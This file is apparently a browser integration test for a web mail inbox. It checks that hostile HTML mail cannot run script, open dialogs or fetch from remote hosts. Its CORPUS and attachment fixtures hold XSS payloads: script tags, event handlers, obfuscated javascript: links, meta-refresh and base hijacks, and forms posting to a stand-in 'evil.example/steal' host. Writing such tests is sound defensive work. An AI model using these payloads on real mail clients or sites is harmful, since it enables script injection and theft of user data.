/**
 * Captured mail is hostile. Each message of this corpus tries to run script
 * in the inbox's origin, open a dialog, navigate, or fetch from a remote host;
 * the test opens every one in Chromium, goes through its tabs, clicks its
 * links, and proves that no script of the mail ran in the page (a global flag
 * never set, no dialog) and that no request left for a non-loopback host while
 * remote content is off; then that turning remote content on does reach out
 * (so the request log is known to see such requests).
 */
import assert from 'node:assert/strict';
import {
  inboxUrl,
  launchBrowser,
  requireBrowser,
  startMailSink,
  type BrowserHarness,
  type MailSink,
} from './support/browser.ts';

// Browser globals used inside page.evaluate/waitForFunction callbacks, which run in the page: the
// tests are type-checked without the DOM library (it clashes with Node's types), so only what is used.
interface PageElement {
  classList: { contains(name: string): boolean };
  textContent: string | null;
  getAttribute(name: string): string | null;
  getBoundingClientRect(): { width: number };
}
declare const document: {
  querySelector(s: string): PageElement | null;
  querySelectorAll(s: string): ArrayLike<PageElement>;
  activeElement: PageElement | null;
  documentElement: { scrollWidth: number };
};
declare const window: { innerWidth: number };
declare const location: { hash: string; href: string };

const EVIL = 'https://evil.example';
const MARKUP = '<img src=x onerror="parent.__pwned=\'subject\';alert(1)">';

/** Hostile HTML bodies, each named for what it tries. */
const CORPUS: Array<{ name: string; html: string }> = [
  {
    name: 'script',
    html: '<p>hi</p><script>parent.__pwned = "script"; top.__pwned = "script"; alert("script")</script>',
  },
  {
    name: 'onerror',
    html: '<img src="x" onerror="parent.__pwned=\'onerror\';alert(\'onerror\')"><body onload="parent.__pwned=\'onload\'">',
  },
  {
    name: 'javascript links',
    html: '<a id="js" href="javascript:parent.__pwned=\'js\';alert(1)">click</a> <a id="ent" href="&#106;ava&#x73;cript&colon;alert(2)">two</a> <a id="ws" href=" java\tscript:alert(3)">three</a> <a id="data" href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;">four</a> <svg><a xlink:href="javascript:alert(5)"><text y="20">five</text></a></svg>',
  },
  {
    name: 'remote css',
    html: `<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/bg.png) } @font-face { font-family: x; src: url(${EVIL}/f.woff) } </style><link rel="stylesheet" href="${EVIL}/style.css"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="${EVIL}"><img src="${EVIL}/pixel.gif"><p style="background-image:url(${EVIL}/inline.png)">tracked</p>`,
  },
  {
    name: 'meta refresh',
    html: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><META HTTP-EQUIV=REFRESH CONTENT="0; URL=javascript:alert(6)"><p>refresh</p>`,
  },
  {
    name: 'base',
    html: `<base href="${EVIL}/"><img src="relative.png"><a id="rel" href="relative">relative</a>`,
  },
  {
    name: 'forms',
    html: `<form action="${EVIL}/steal" method="post"><input name="a" value="b"><button id="submit" formaction="javascript:alert(7)">go</button></form><form action="${EVIL}/steal2"><input type="submit" id="submit2" value="send"></form>`,
  },
  {
    name: 'svg script',
    html: '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwned=\'svg\'"><script>parent.__pwned="svg-script"</script><image href="x" onerror="alert(8)"/></svg><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/obj"></object><embed src="https://evil.example/embed">',
  },
];

describe('web inbox against hostile mail (integration)', function () {
  this.timeout(90_000);
  let mail: MailSink;
  let b: BrowserHarness;
  const dialogs: string[] = [];

  before(async function () {
    requireBrowser(this);
    mail = await startMailSink();
    for (const c of CORPUS) {
      await mail.send({
        from: `"${MARKUP}" <evil@example.com>`,
        to: 'victim@example.com',
        subject: `hostile: ${c.name}`,
        text: c.name,
        html: c.html,
      });
    }
    await mail.send({
      from: 'evil@example.com',
      to: 'victim@example.com',
      subject: MARKUP,
      text: 'markup everywhere',
      headers: { 'X-Markup': '<script>parent.__pwned="header"</script>' },
      attachments: [
        {
          filename: '<img src=x onerror=alert(9)>.html',
          content: '<script>alert(10)</script>',
          contentType: 'text/html',
        },
        {
          filename: 'image.svg',
          content: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(11)</script></svg>',
          contentType: 'image/svg+xml',
        },
      ],
    });
    await mail.sink.analysisIdle();
    b = await launchBrowser();
    b.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
  });
  after(async () => {
    await b?.close();
    await mail?.close();
  });

  const page = () => b.page;
  const pwned = () =>
    page().evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null);

  it('renders subjects, names, headers and file names as text', async () => {
    await page().goto(inboxUrl(mail.sink));
    await page().waitForFunction(
      (n) => document.querySelectorAll('.row').length === n,
      CORPUS.length + 1,
    );
    const subjects = await page().locator('.row .row-subject').allTextContents();
    assert.ok(subjects.includes(MARKUP), 'the subject is shown literally');
    assert.equal(await page().locator('.row img, .list img').count(), 0);
    await page().click(`.row:has(.row-subject:text-is(${JSON.stringify(MARKUP)}))`);
    await page().waitForSelector('.message h2.subject');
    assert.equal(await page().locator('.message h2.subject').textContent(), MARKUP);
    await page().click('button[data-tab=headers]');
    await page().waitForSelector(
      'table.headers td >> text=<script>parent.__pwned="header"</script>',
    );
    await page().click('button[data-tab=parts]');
    await page().waitForSelector('td.filename >> text=<img src=x onerror=alert(9)>.html');
    const download = page().waitForEvent('download');
    await page().click('button[data-attachment="0"]');
    const file = await download;
    assert.ok(
      !/[<>]/.test(file.suggestedFilename()),
      `download name ${file.suggestedFilename()} carries no markup`,
    );
    assert.equal(await page().locator('.message img').count(), 0);
    assert.equal(await pwned(), null);
    assert.deepEqual(dialogs, []);
  });

  it('the attachment route serves content as a sandboxed download, never as a page', async () => {
    const id = await page().evaluate(() =>
      document.querySelector('.row.selected')?.getAttribute('data-key'),
    );
    const res = await fetch(`${mail.sink.url}/api/messages/${id}/attachments/1`, {
      headers: { authorization: `Bearer ${mail.sink.token}` },
    });
    assert.match(res.headers.get('content-disposition') ?? '', /^attachment;/);
    assert.match(res.headers.get('content-security-policy') ?? '', /sandbox/);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
  });

  for (const c of CORPUS) {
    it(`hostile HTML (${c.name}): nothing runs in the inbox, no dialog, no remote request`, async () => {
      await page().click(`.row:has(.row-subject:text-is("hostile: ${c.name}"))`);
      await page().waitForSelector(`.message h2.subject >> text="hostile: ${c.name}"`);
      await page().click('button[data-tab=html]');
      const frameEl = await page().waitForSelector('iframe.html-frame');
      assert.equal(await frameEl.getAttribute('sandbox'), '');
      const frame = await frameEl.contentFrame();
      assert.ok(frame);
      await frame.waitForLoadState('load');
      // What is left of the mail in the frame: no refresh, no base, every dangerous link neutralised.
      const left = await frame
        .evaluate(() => ({
          meta: document.querySelectorAll('meta[http-equiv]').length,
          base: document.querySelectorAll('base').length,
          links: Array.from(document.querySelectorAll('a')).map(
            (a) => a.getAttribute('href') ?? a.getAttribute('xlink:href'),
          ),
          url: location.href,
        }))
        .catch(() => null); // evaluation in a sandboxed frame may be refused: the checks below still hold
      if (left) {
        assert.equal(left.meta, 0);
        assert.equal(left.base, 0);
        for (const href of left.links)
          assert.ok(
            href === null || href === '#blocked' || href === 'relative' || /^https:/.test(href),
            `link ${href} is neutralised`,
          );
        assert.match(left.url, /\/ui\/preview\//);
      }
      for (const selector of ['#js', '#ent', '#ws', '#data', '#submit', '#submit2', '#rel']) {
        const el = frame.locator(selector);
        if ((await el.count()) > 0) await el.click({ timeout: 2000 }).catch(() => undefined);
      }
      await page().click('button[data-tab=text]');
      await page().click('button[data-tab=analysis]');
      await page().click('button[data-tab=html]');
      await page().waitForSelector('iframe.html-frame');
      // Let any late navigation, refresh or fetch happen before looking.
      await page().waitForLoadState('networkidle');
      assert.equal(await pwned(), null);
      assert.deepEqual(dialogs, []);
      assert.deepEqual(b.remoteRequests, []);
      assert.match(page().url(), new RegExp(`^${mail.sink.url.replace(/[.]/g, '\\.')}/`));
    });
  }

  it('"Load remote content" lets that message (only) fetch from remote hosts, still without script', async () => {
    await page().click('.row:has(.row-subject:text-is("hostile: remote css"))');
    await page().waitForSelector('.message h2.subject >> text="hostile: remote css"');
    const remoteRequest = b.context.waitForEvent('request', {
      predicate: (r) => r.url().startsWith(`${EVIL}/`),
      timeout: 10_000,
    });
    await page().check('.remote-toggle input');
    await page().waitForSelector('iframe.html-frame[src*="remote=1"]');
    const seen = await remoteRequest;
    assert.ok(
      seen.url().startsWith(`${EVIL}/`),
      'with remote content on, the pixel or stylesheet is requested',
    );
    assert.equal(await pwned(), null);
    assert.deepEqual(dialogs, []);
    // Another message opens with remote content off again: nothing remote from its preview frame
    // (the previous frame may still finish requests it started).
    await page().click('.row:has(.row-subject:text-is("hostile: base"))');
    await page().waitForSelector('.message h2.subject >> text="hostile: base"');
    assert.equal(await page().locator('.remote-toggle input').isChecked(), false);
    const src = await (await page().waitForSelector('iframe.html-frame')).getAttribute('src');
    assert.ok(src && !src.includes('remote=1'));
    await page().waitForLoadState('networkidle');
    assert.deepEqual(
      b.remoteRequestFrames.filter((r) => r.frame.endsWith(src)),
      [],
    );
  });
});
